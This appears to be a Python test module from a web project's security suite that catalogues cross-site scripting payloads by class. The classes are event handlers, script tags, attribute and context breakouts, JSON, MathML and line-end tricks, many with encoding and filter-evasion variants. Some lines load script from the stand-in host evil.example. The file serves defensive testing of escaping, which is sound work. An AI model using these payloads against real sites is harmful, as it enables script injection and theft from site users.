"""Texts that became scripts somewhere, by class: each calls ``alert(1)`` or asks ``evil.example``.

What a browser does with addresses stands in :mod:`tests.hostile.addresses`; these are the texts
that leave the place where they were put.
"""

from __future__ import annotations

import itertools

from tests._support.inputs import input_data
from tests.hostile import addresses

CALL = "alert(1)"
TAG = "<img src=x onerror=alert(1)>"
SCRIPT = "<script>alert(1)</script>"

_INPUTS = input_data(__file__, "vectors.yaml")

_HANDLERS = tuple(map(tuple, _INPUTS["handlers"]))
HANDLERS = (
    *(f"<{start} {handler}={CALL}>" for start, handler in _HANDLERS),
    "<img/src=x/onerror=alert(1)>",
    "<img src=x\nonerror\n=\nalert(1)>",
    "<img src=x\x0conerror=alert(1)>",
    "<img src=x onerror=alert&lpar;1&rpar;>",
    "<img src=x onerror=&#97;lert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img src=`x` onerror=`alert(1)`>",
    "<img src=x onerror='alert(1)'//",
    "<img src=x onerror=alert(1)<",
    "<img \x00src=x o\x00nerror=alert(1)>",
    "< img src=x onerror=alert(1)>",
    "<\timg src=x onerror=alert(1)>",
)
SCRIPTS = (
    SCRIPT,
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script >alert(1)</script >",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script/x>",
    "<script type=module>alert(1)</script>",
    "<script type=text/javascript>alert(1)//",
    "<script src=data:,alert(1)></script>",
    "<script src=//evil.example/x.js></script>",
    "<script src=https://evil.example/x.js></script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)</script>",
    "<script>alert(1)<!--</script>",
    "<script x=></script><script>alert(1)</script>",
    "<script>\u2028alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%253Cscript%253Ealert(1)%253C/script%253E",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
)

_QUOTES = ('"', "'", "`", "&quot;", "&#34;", "&#39;", '\\"', '"\\', "\u201d", '\xff"')
_AFTER_QUOTE = (
    " onmouseover=alert(1) x=",
    " autofocus onfocus=alert(1) x=",
    ">" + TAG,
    " style=animation-name:dj-x onanimationstart=alert(1) x=",
    "/onpointerenter=alert(1)//",
)
ATTRIBUTES = (
    *(quote + after for quote, after in itertools.product(_QUOTES, _AFTER_QUOTE)),
    "x onmouseover=alert(1)",
    "x\tonmouseover=alert(1)",
    "x/onmouseover=alert(1)",
    '" href="javascript:alert(1)',
    '" srcdoc="<script>parent.alert(1)</script>',
    '"><base href="//evil.example/',
    '"><meta http-equiv=refresh content="0;url=javascript:alert(1)',
)

_HOLDERS = (
    "title", "textarea", "style", "script", "noscript", "iframe", "xmp", "noembed", "noframes",
    "template", "select", "option", "button", "a", "p", "pre", "code", "dialog", "details", "svg",
    "math", "table", "head", "body", "main", "article",
)  # fmt: skip
BREAKOUTS = (
    *(f"</{name}>{TAG}" for name in _HOLDERS),
    f"-->{TAG}",
    f"--!>{TAG}",
    f"<!-->{TAG}",
    f"<!--->{TAG}",
    f"<!--{TAG}",
    f"<!-- --!>{TAG}<!-- -->",
    f"]]>{TAG}",
    f"<![CDATA[{TAG}]]>",
    f"<!DOCTYPE x [<!ENTITY y '{TAG}'>]>&y;",
    f"<?xml version='1.0'?>{TAG}",
    f"<!x {TAG}>",
    f"</ {TAG}>",
    f"</x/{TAG}>",
    "<plaintext>" + TAG,
)

JSON = (
    "</script><script>alert(1)</script>",
    "<!--<script>",
    "<!--<script>alert(1)</script>-->",
    '";alert(1);//',
    '"}]};alert(1);//',
    "');alert(1);//",
    "`+alert(1)+`",
    "${alert(1)}",
    '\\";alert(1);//',
    "\\u0022;alert(1);//",
    "\u2028alert(1)\u2028",
    "\u2029alert(1)\u2029",
    "\u0085alert(1)\u0085",
    "\nalert(1)\n",
    "\r\nalert(1)\r\n",
    "*/alert(1)/*",
    "]}</script ><img src=x onerror=alert(1)>",
    "__proto__",
    "constructor",
    '{"__proto__": {"onerror": "alert(1)"}}',
)

MUTATION = tuple(_INPUTS["mutation"])

SVG = tuple(_INPUTS["svg"])
MATHML = (
    "<math href=javascript:alert(1)>x</math>",
    "<math xlink:href=javascript:alert(1)>x</math>",
    "<math><mi href=javascript:alert(1)>x</mi></math>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "<math><mtext onclick=alert(1)>x</mtext></math>",
    "<math><mglyph src=x onerror=alert(1)></math>",
)

CSS = tuple(_INPUTS["css"])

TEMPLATES = tuple(_INPUTS["templates"])

MARKDOWN = tuple(_INPUTS["markdown"])

ELEMENTS = tuple(_INPUTS["elements"])

LINES = (
    "x\ronmouseover=alert(1)",
    "x\u2028<img src=x onerror=alert(1)>",
    "x\u2029<img src=x onerror=alert(1)>",
    "x\u0085<img src=x onerror=alert(1)>",
    "x\x0b<img src=x onerror=alert(1)>",
    "x\x1c<img src=x onerror=alert(1)>",
    "\u202e<img src=x onerror=alert(1)>\u202c",
    "\u200b<img src=x onerror=alert(1)>",
    "<\u200bimg src=x onerror=alert(1)>",
    "<img\xa0src=x\xa0onerror=alert(1)>",
    "<img\u3000src=x onerror=alert(1)>",
    "\ud7ff<img src=x onerror=alert(1)>\ue000",
    "\U000e003c\U000e0073<img src=x onerror=alert(1)>",
    "\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07",
    "x\n\n---\ntitle: <img src=x onerror=alert(1)>\n---\n",
    "x\n## <img src=x onerror=alert(1)>\n",
    "x 301!\n/* javascript:alert(1) 301",
    "x\nLocation: javascript:alert(1)\r\n\r\n<script>alert(1)</script>",
    "]]></loc><loc>javascript:alert(1)</loc>",
    "</title></url></urlset><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
)

CLASSES: dict[str, tuple[str, ...]] = {
    "handlers": HANDLERS,
    "scripts": SCRIPTS,
    "attributes": ATTRIBUTES,
    "breakouts": BREAKOUTS,
    "data in scripts": JSON,
    "mutation": MUTATION,
    "SVG": SVG,
    "MathML": MATHML,
    "CSS": CSS,
    "templates": TEMPLATES,
    "Markdown": MARKDOWN,
    "elements": ELEMENTS,
    "line ends": LINES,
}
TEXTS = tuple(dict.fromkeys(itertools.chain.from_iterable(CLASSES.values())))
"""What is tried where text stands."""

ALL = tuple(dict.fromkeys((*TEXTS, *addresses.VECTORS)))
"""What is tried everywhere."""
